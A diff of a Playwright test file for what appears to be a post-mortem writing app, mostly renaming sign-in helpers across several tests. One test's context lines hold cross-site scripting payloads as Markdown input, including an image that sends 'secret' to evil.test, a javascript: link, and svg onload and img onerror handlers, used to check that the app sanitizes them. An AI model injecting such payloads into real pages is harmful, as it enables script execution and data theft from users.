@@ -1,5 +1,6 @@
 import { expect } from '@playwright/test';
-import { chooseTheme, codeFor, newPostMortem, saved, signIn, signUp } from './person';
+import { codeFor } from './account';
+import { chooseTheme, newPostMortem, openAs, openAsNew, saved, signIn, signUp } from './person';
 import { test } from './screenTest';
 
 const PASSWORD = 'Tap-tap-tapping-9';
@@ -8,7 +9,7 @@ test('a new person signs up with the code from the terminal and sees nothing of 
   browser,
 }) => {
   const owner = await (await browser.newContext()).newPage();
-  await signIn(owner);
+  await openAs(owner);
   const address = await newPostMortem(owner, 'Private to its owner');
   await saved(owner);
 
@@ -64,7 +65,7 @@ test('hostile Markdown in any field runs nothing and loads nothing from elsewher
     '![leak](https://evil.test/b.png?q=secret) [click](javascript:alert(3)) <iframe src="https://evil.test"></iframe>',
     '<svg onload=alert(4)> [x]: https://evil.test/c "t" ![y][x]',
   ].join('\n\n');
-  await signIn(page);
+  await openAs(page);
   await newPostMortem(page, 'Attacked <img src=x onerror=alert(5)>');
   await page.getByLabel('Description', { exact: true }).fill(attack);
   await page.getByRole('button', { name: 'Preview description' }).click();
@@ -78,7 +79,7 @@ test('hostile Markdown in any field runs nothing and loads nothing from elsewher
 });
 
 test('a section over 20,000 characters is named as too long, and the text stays', async ({ page }) => {
-  await signIn(page);
+  await openAs(page);
   await newPostMortem(page, 'Too long');
   const field = page.getByLabel('Summary', { exact: true });
   await field.fill('x'.repeat(20_001));
@@ -88,7 +89,7 @@ test('a section over 20,000 characters is named as too long, and the text stays'
 
 test('the longest address stands whole in the account box, on a phone too', async ({ page }) => {
   const email = `${'on-call.engineer.of.the.week.'.repeat(2)}x@payments-and-ledgers.nevermore.local`;
-  await signUp(page, { email, password: PASSWORD });
+  await openAsNew(page, { email, password: PASSWORD });
   for (const width of [1280, 360]) {
     await page.setViewportSize({ width, height: 800 });
     await page.getByRole('button', { name: 'Account' }).click();
@@ -106,7 +107,7 @@ test('the longest address stands whole in the account box, on a phone too', asyn
 });
 
 test('the theme is remembered', async ({ page }) => {
-  await signIn(page);
+  await openAs(page);
   await chooseTheme(page, 'Addams');
   await page.reload();
   await expect(page.locator('html')).toHaveAttribute('data-theme', 'addams');
